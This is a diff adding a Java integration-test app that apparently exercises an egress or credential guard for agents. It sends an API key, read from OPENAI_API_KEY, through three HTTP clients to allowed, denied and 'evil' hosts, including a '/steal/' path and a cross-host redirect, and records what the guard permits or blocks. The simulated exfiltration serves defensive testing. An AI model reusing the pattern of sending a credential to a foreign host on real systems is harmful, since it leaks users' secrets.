@@ -1,0 +1,159 @@
+package dev.faramesh.it.frameworks.http;
+
+import dev.faramesh.it.frameworks.Calls;
+import java.util.ArrayList;
+import java.util.List;
+
+/**
+ * An application calling HTTP services through OkHttp and Apache HttpClient (4 classic and 5
+ * classic), whichever of them are on its class path: each client sends the application's
+ * credential (read from {@code OPENAI_API_KEY}, so a placeholder under the agent) in a header and
+ * in the query to the host the credential belongs to (plain and TLS), to a host it does not belong
+ * to, through a redirect from the one to the other, to a denied path and to a denied host, and
+ * finally once more to the permitted host to show it went on after the denials. Each step prints
+ * {@code RESULT <client>-<step> status=<code>} or {@code RESULT <client>-<step> threw class=<exception> <message>}.
+ *
+ * <p>Arguments: the clients to use ({@code okhttp,apache4,apache5}), the permitted host's plain
+ * and TLS base URLs, the other host's plain base URL, and the denied host's plain base URL.
+ */
+public final class HttpClientsApp {
+
+  private HttpClientsApp() {}
+
+  public static void main(String[] args) {
+    Calls.exiting(() -> run(args));
+  }
+
+  private static void run(String[] args) throws Exception {
+    String allowed = args[1];
+    String allowedTls = args[2];
+    String evil = args[3];
+    String blocked = args[4];
+    String key = System.getenv("OPENAI_API_KEY");
+    for (String name : args[0].split(",")) {
+      Client client = switch (name) {
+        case "okhttp" -> new OkHttp();
+        case "apache4" -> new Apache4();
+        case "apache5" -> new Apache5();
+        default -> throw new IllegalArgumentException(name);
+      };
+      String q = "?key=" + key + "&v=1";
+      step(client, name, "allowed", allowed + "/v1/" + name + q, key);
+      step(client, name, "allowed-tls", allowedTls + "/v1/" + name + "-tls" + q, key);
+      step(client, name, "steal", evil + "/steal/" + name + q, key);
+      // x-api-key only: Apache HttpClient 5.4+ itself refuses to follow a redirect to another
+      // authority when the request carries Authorization
+      step(client, name, "redirect", allowed + "/redirect?to=" + evil + "/landing/" + name, List.of("x-api-key", key));
+      step(client, name, "forbidden", allowed + "/forbidden/" + name, key);
+      step(client, name, "blocked", blocked + "/never/" + name, key);
+      step(client, name, "after", allowed + "/after/" + name, key);
+      if (client instanceof OkHttp ok) {
+        // enqueue: the call runs on OkHttp's dispatcher thread, a denial arrives in onFailure
+        step(ok.async(), name, "async-allowed", allowed + "/v1/" + name + "-async" + q, key);
+        step(ok.async(), name, "async-blocked", blocked + "/never/" + name + "-async", key);
+      }
+    }
+    System.out.println("APP DONE");
+  }
+
+  private static void step(Client client, String name, String step, String url, String key) {
+    step(client, name, step, url, List.of("Authorization", "Bearer " + key, "x-api-key", key));
+  }
+
+  private static void step(Client client, String name, String step, String url, List<String> headers) {
+    String out;
+    try {
+      out = "status=" + client.get(url, headers);
+    } catch (Exception e) {
+      out = "threw class=" + e.getClass().getName() + " " + e.getMessage();
+    }
+    System.out.println("RESULT " + name + "-" + step + " " + out);
+  }
+
+  interface Client {
+    /** GET {@code url} with the headers (name, value, ...); the status code. */
+    int get(String url, List<String> headers) throws Exception;
+  }
+
+  static final class OkHttp implements Client {
+    private final okhttp3.OkHttpClient client = new okhttp3.OkHttpClient();
+
+    @Override
+    public int get(String url, List<String> headers) throws Exception {
+      okhttp3.Request.Builder b = new okhttp3.Request.Builder().url(url);
+      for (int i = 0; i < headers.size(); i += 2) {
+        b.header(headers.get(i), headers.get(i + 1));
+      }
+      try (okhttp3.Response r = client.newCall(b.build()).execute()) {
+        r.body().string();
+        return r.code();
+      }
+    }
+
+    /** The same GET through {@code enqueue}; the exception {@code onFailure} received is thrown. */
+    Client async() {
+      return (url, headers) -> {
+        okhttp3.Request.Builder b = new okhttp3.Request.Builder().url(url);
+        for (int i = 0; i < headers.size(); i += 2) {
+          b.header(headers.get(i), headers.get(i + 1));
+        }
+        java.util.concurrent.CompletableFuture<Integer> done = new java.util.concurrent.CompletableFuture<>();
+        client.newCall(b.build()).enqueue(new okhttp3.Callback() {
+          @Override
+          public void onFailure(okhttp3.Call call, java.io.IOException e) {
+            done.completeExceptionally(e);
+          }
+
+          @Override
+          public void onResponse(okhttp3.Call call, okhttp3.Response response) {
+            try (response) {
+              done.complete(response.code());
+            }
+          }
+        });
+        try {
+          return done.get(30, java.util.concurrent.TimeUnit.SECONDS);
+        } catch (java.util.concurrent.ExecutionException e) {
+          throw (Exception) e.getCause();
+        }
+      };
+    }
+  }
+
+  static final class Apache4 implements Client {
+    private final org.apache.http.impl.client.CloseableHttpClient client =
+        org.apache.http.impl.client.HttpClients.createDefault();
+
+    @Override
+    public int get(String url, List<String> headers) throws Exception {
+      org.apache.http.client.methods.HttpGet get = new org.apache.http.client.methods.HttpGet(url);
+      for (int i = 0; i < headers.size(); i += 2) {
+        get.setHeader(headers.get(i), headers.get(i + 1));
+      }
+      try (org.apache.http.client.methods.CloseableHttpResponse r = client.execute(get)) {
+        org.apache.http.util.EntityUtils.consume(r.getEntity());
+        return r.getStatusLine().getStatusCode();
+      }
+    }
+  }
+
+  static final class Apache5 implements Client {
+    private final org.apache.hc.client5.http.impl.classic.CloseableHttpClient client =
+        org.apache.hc.client5.http.impl.classic.HttpClients.createDefault();
+
+    @Override
+    public int get(String url, List<String> headers) throws Exception {
+      org.apache.hc.client5.http.classic.methods.HttpGet get = new org.apache.hc.client5.http.classic.methods.HttpGet(url);
+      for (int i = 0; i < headers.size(); i += 2) {
+        get.setHeader(headers.get(i), headers.get(i + 1));
+      }
+      List<Integer> code = new ArrayList<>();
+      client.execute(get, response -> {
+        org.apache.hc.core5.http.io.entity.EntityUtils.consume(response.getEntity());
+        code.add(response.getCode());
+        return null;
+      });
+      return code.get(0);
+    }
+  }
+}
